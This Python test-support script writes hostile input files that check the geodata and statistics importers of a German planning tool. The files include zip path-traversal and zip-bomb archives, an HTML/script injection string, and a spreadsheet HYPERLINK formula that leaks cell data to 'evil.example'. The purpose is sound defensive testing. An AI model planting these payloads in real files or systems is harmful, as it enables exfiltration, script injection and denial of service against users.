"""Write a corpus of hostile input files for the importers (used by tests/test_hostile_corpus.py).

    python tools/hostile_corpus.py OUT_DIR      # writes the files and prints one line per case

Every file is meant for a store holding the 3×3 grid of ``sozialraum.testing`` (levels zelle/zeile/stadt,
EPSG:25832, keys r0c0 … r2c2). ``corpus(dest)`` returns the cases: what the file is, which importer takes it
with which options, and what must happen — ``refuse`` (an ``InputError`` whose German message names the file,
and the row and column where given, and the store unchanged), ``warn`` (a ``PlausibilityWarning``: nothing
written without confirmation) or ``accept`` (written; ``check`` names what must hold afterwards).
"""

from __future__ import annotations

import json
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

GRID_KEYS = [f"r{r}c{c}" for r in range(3) for c in range(3)]
X0, Y0 = 400_000.0, 5_600_000.0  # the grid's origin in EPSG:25832 (about 7.6° E, 50.5° N)
HTML = "<img src=x onerror=alert(1)><script>alert(2)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klick")'


@dataclass(frozen=True)
class Case:
    name: str
    path: Path
    importer: str  # 'areas' | 'statistics' | 'points' | 'upload'
    options: dict
    expect: str  # 'refuse' | 'warn' | 'accept'
    mentions: tuple[str, ...] = ()  # texts the message must contain (file, 'Zeile n', "Spalte 'x'", value)
    check: dict = field(default_factory=dict)  # for 'accept': SQL -> expected first row


def _square(x: float, y: float, size: float = 1000.0) -> list[list[float]]:
    return [[x, y], [x + size, y], [x + size, y + size], [x, y + size], [x, y]]


def _geojson(path: Path, features: list[dict], crs: str | None = "EPSG:25832") -> Path:
    doc = {"type": "FeatureCollection", "features": features}
    if crs:
        doc["crs"] = {"type": "name", "properties": {"name": crs.replace("EPSG:", "urn:ogc:def:crs:EPSG::")}}
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return path


def _feature(key: str, name: str, ring, parent: str | None = None) -> dict:
    props = {"id": key, "name": name}
    if parent is not None:
        props["parent"] = parent
    geometry = None if ring is None else {"type": "Polygon", "coordinates": [ring]}
    return {"type": "Feature", "properties": props, "geometry": geometry}


def _write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def _stats_csv(path: Path, rows: list[tuple], header: str = "Gebiet;EW;RLB", encoding: str = "utf-8") -> Path:
    lines = [header] + [";".join(str(c) for c in r) for r in rows]
    return _write(path, "\n".join(lines) + "\n", encoding)


def _good_rows(**override) -> list[tuple]:
    rows = {k: (1000, 100) for k in GRID_KEYS}
    rows.update(override)
    return [(k, *v) for k, v in rows.items()]


STATS = {"level": "zelle", "key": "Gebiet", "indicators": {"ew_gesamt": "EW", "rlb": "RLB"}, "period": "2024"}
AREAS = {"level": "test", "label": "Testebene", "key": "id", "name": "name"}


def corpus(dest: str | Path) -> list[Case]:
    """Write every hostile file into ``dest`` and return the cases (see the module docstring)."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    cases: list[Case] = []

    def add(*args, **kw):
        cases.append(Case(*args, **kw))

    # --- areas -------------------------------------------------------------------------------------------
    bowtie = [[X0, Y0], [X0 + 1000, Y0 + 1000], [X0 + 1000, Y0], [X0, Y0 + 1000], [X0, Y0]]
    add("geometrie_kaputt", _geojson(dest / "geometrie_kaputt.geojson", [
        _feature("A", "Schleife", bowtie), _feature("B", "Linie", [[X0, Y0], [X0 + 10, Y0], [X0, Y0]])]),
        "areas", AREAS, "refuse", ("geometrie_kaputt.geojson", "Zeile 2", "'B'", "ohne Fläche"))
    add("geometrie_leer", _geojson(dest / "geometrie_leer.geojson", [
        _feature("A", "Gut", _square(X0, Y0)), _feature("B", "Ohne Geometrie", None)]),
        "areas", AREAS, "refuse", ("geometrie_leer.geojson", "Zeile 2", "Geometrie fehlt"))
    add("schluessel_doppelt", _geojson(dest / "schluessel_doppelt.geojson", [
        _feature("A", "Eins", _square(X0, Y0)), _feature("A", "Zwei", _square(X0 + 1000, Y0))]),
        "areas", AREAS, "refuse", ("schluessel_doppelt.geojson", "Zeile 1", "Spalte 'id'", "mehrfach"))
    add("ohne_crs_meter", _geojson(dest / "ohne_crs_meter.geojson", [_feature("A", "Eins", _square(X0, Y0))],
                                   crs=None),
        "areas", AREAS, "refuse", ("ohne_crs_meter.geojson", "Zeile 1", "keine Längen-/Breitengrade"))
    swapped = [[y, x] for x, y in [[7.60, 50.50], [7.61, 50.50], [7.61, 50.51], [7.60, 50.51], [7.60, 50.50]]]
    add("achsen_vertauscht", _geojson(dest / "achsen_vertauscht.geojson", [_feature("A", "Eins", swapped)],
                                      crs="EPSG:4326"),
        "areas", AREAS, "refuse", ("achsen_vertauscht.geojson", "Zeile 1", "Achsen vertauscht"))
    _shapefile_without_prj(dest / "ohne_prj")
    add("shapefile_ohne_prj", dest / "ohne_prj" / "gebiete.shp", "areas", AREAS, "refuse",
        ("gebiete.shp", "Kein Koordinatenbezugssystem"))
    add("html_namen", _geojson(dest / "html_namen.geojson", [_feature("A", f"Nord {HTML}", _square(X0, Y0))]),
        "areas", AREAS, "accept", check={"SELECT name FROM areas WHERE level = 'test'": (f"Nord {HTML}",)})

    # --- archives (as uploads and as zipped shapefiles) -------------------------------------------------
    traversal = dest / "pfad_ausbruch.zip"
    with zipfile.ZipFile(traversal, "w") as zf:
        zf.writestr("../../boese.csv", "Gebiet;EW\nr0c0;1\n")
    add("zip_ausbruch_upload", traversal, "upload", {}, "refuse", ("pfad_ausbruch.zip", "'..'"))
    add("zip_ausbruch_gebiete", traversal, "areas", AREAS, "refuse", ("pfad_ausbruch.zip", "'..'"))
    absolute = dest / "absoluter_pfad.zip"
    with zipfile.ZipFile(absolute, "w") as zf:
        zf.writestr("/etc/boese.geojson", "{}")
    add("zip_absolut", absolute, "areas", AREAS, "refuse", ("absoluter_pfad.zip", "absoluten Pfad"))
    bomb = dest / "zip_bombe.zip"
    with (zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
          zf.open("gebiete.geojson", "w") as member):
        block = b" " * (1024 * 1024)
        for _ in range(300):  # 300 MB of blanks, about 300 kB packed
            member.write(block)
    add("zip_bombe_upload", bomb, "upload", {}, "refuse", ("zip_bombe.zip", "ZIP-Bombe"))
    add("zip_bombe_gebiete", bomb, "areas", AREAS, "refuse", ("zip_bombe.zip",))

    # --- statistics ----------------------------------------------------------------------------------------
    add("ba_marker", _stats_csv(dest / "ba_marker.csv", _good_rows(r0c0=(1000, "*"), r0c1=(1000, "-"),
                                                                   r0c2=(1000, "x"), r1c0=(1000, "."))),
        "statistics", STATS, "accept",
        check={"SELECT flag FROM observations WHERE area_key = 'r0c0' AND indicator = 'rlb'": ("suppressed",),
               "SELECT flag FROM observations WHERE area_key = 'r1c0' AND indicator = 'rlb'": ("missing",)})
    add("cp1252", _write(dest / "cp1252.csv", "Gebiet;Einwohner (männl./weibl.);RLB\n"
                         + "".join(f"{k};1000;100\n" for k in GRID_KEYS), "cp1252"),
        "statistics", {**STATS, "indicators": {"ew_gesamt": "Einwohner (männl./weibl.)", "rlb": "RLB"}},
        "accept", check={"SELECT count(*) FROM observations WHERE NOT derived AND source_id = 'feind'": (18,)})
    add("utf16", _write(dest / "utf16.csv", "Gebiet\tEW\tRLB\n" + "".join(f"{k}\t1000\t100\n" for k in GRID_KEYS),
                        "utf-16"),
        "statistics", STATS, "accept",
        check={"SELECT value FROM observations WHERE area_key = 'r2c2' AND indicator = 'ew_gesamt'": (1000.0,)})
    add("bom", _write(dest / "bom.csv", "\ufeffGebiet;EW;RLB\n" + "".join(f"{k};1.000;100\n" for k in GRID_KEYS)),
        "statistics", STATS, "accept",
        check={"SELECT value FROM observations WHERE area_key = 'r0c0' AND indicator = 'ew_gesamt'": (1000.0,)})
    add("negativ", _stats_csv(dest / "negativ.csv", _good_rows(r1c1=(1000, -7))), "statistics", STATS, "refuse",
        ("negativ.csv", "Zeile 6", "Spalte 'RLB'", "−7"))
    add("platzhalter", _stats_csv(dest / "platzhalter.csv", _good_rows(r1c1=(-9999, 100))), "statistics", STATS,
        "accept", check={"SELECT value, flag FROM observations WHERE area_key = 'r1c1' AND indicator = "
                         "'ew_gesamt'": (None, "missing")})
    add("zaehler_ueber_nenner", _stats_csv(dest / "zaehler_ueber_nenner.csv", _good_rows(r2c0=(100, 500))),
        "statistics", STATS, "refuse", ("zaehler_ueber_nenner.csv", "Zeile 8", "Spalte 'RLB'", "500"))
    add("quote_500", _write(dest / "quote_500.csv", "Gebiet;Quote\n" + "".join(
        f"{k};{'500' if k == 'r0c0' else '5,5'}\n" for k in GRID_KEYS)),
        "statistics", {**STATS, "indicators": {"mss_s1": "Quote"}}, "refuse",
        ("quote_500.csv", "Zeile 2", "Spalte 'Quote'", "500 %"))
    add("zweifelhaft_verklebt", _stats_csv(dest / "zweifelhaft_verklebt.csv", _good_rows(r2c2=(2036643, 100))),
        "statistics", STATS, "warn", ("zweifelhaft_verklebt.csv", "Zeile 10", "Spalte 'EW'", "2.036.643"))
    add("unbekannter_schluessel_formel", _write(dest / "formel.csv", f"Gebiet;EW\n\"{FORMULA.replace(chr(34), 2 * chr(34))}\";5\n"),
        "statistics", {**STATS, "indicators": {"ew_gesamt": "EW"}}, "refuse",
        ("formel.csv", "Zeile 2", "unbekannter Gebietsschlüssel"))
    _write(dest / "riesenfeld.csv", 'Gebiet;EW;RLB\nr0c0;"1000\n' + "9" * (17 * 1024 * 1024) + "\n")
    add("riesenfeld", dest / "riesenfeld.csv", "statistics", STATS, "refuse",
        ("riesenfeld.csv", "Anführungszeichen"))
    add("leere_datei", _write(dest / "leer.csv", ""), "statistics", STATS, "refuse", ("leer.csv", "leer"))
    (dest / "binaer.csv").write_bytes(bytes(range(256)) * 20)
    add("binaer_als_csv", dest / "binaer.csv", "statistics", STATS, "refuse", ("binaer.csv",))

    # --- points --------------------------------------------------------------------------------------------
    pts = {"table": "providers", "x": "lon", "y": "lat", "crs": "EPSG:4326", "columns": {"name": "name",
           "traeger": "traeger"}, "values": {"service_type": "kita"}}
    add("punkte_vertauscht", _write(dest / "punkte_vertauscht.csv",
                                    "name;traeger;lon;lat\nA;T;7.605;50.505\nB;T;50.506;7.606\n"),
        "points", pts, "refuse", ("punkte_vertauscht.csv", "Zeile 3", "Spalte 'lon/lat'", "Achsen vertauscht"))
    add("punkte_ausserhalb", _write(dest / "punkte_ausserhalb.csv", "name;traeger;lon;lat\nA;T;7.605;150.5\n"),
        "points", pts, "refuse", ("punkte_ausserhalb.csv", "Zeile 2", "Spalte 'lat'", "150,5"))
    add("punkte_dezimalpunkt", _write(dest / "punkte_dezimalpunkt.csv",
                                      "name;traeger;lon;lat\nA;T;7.605;50.505\n"),
        "points", pts, "accept",
        check={"SELECT round(lon, 3), round(lat, 3) FROM providers WHERE source_id = 'feind'": (7.605, 50.505)})
    add("punkte_html_formel", _write(dest / "punkte_html_formel.csv",
                                     f"name;traeger;lon;lat\n\"{HTML}\";\"{FORMULA.replace(chr(34), 2 * chr(34))}\";"
                                     "7.605;50.505\n"),
        "points", pts, "accept",
        check={"SELECT name, traeger FROM providers WHERE source_id = 'feind'": (HTML, FORMULA)})
    return cases


def _shapefile_without_prj(folder: Path) -> None:
    import geopandas as gpd
    from shapely.geometry import Polygon

    folder.mkdir(parents=True, exist_ok=True)
    gdf = gpd.GeoDataFrame({"id": ["A"], "name": ["Eins"]}, geometry=[Polygon(_square(X0, Y0))], crs=None)
    gdf.to_file(folder / "gebiete.shp", engine="pyogrio")
    prj = folder / "gebiete.prj"
    if prj.exists():
        prj.unlink()


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print(__doc__)
        return 1
    for case in corpus(argv[0]):
        print(f"{case.expect:<7} {case.importer:<11} {case.name:<32} {case.path.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
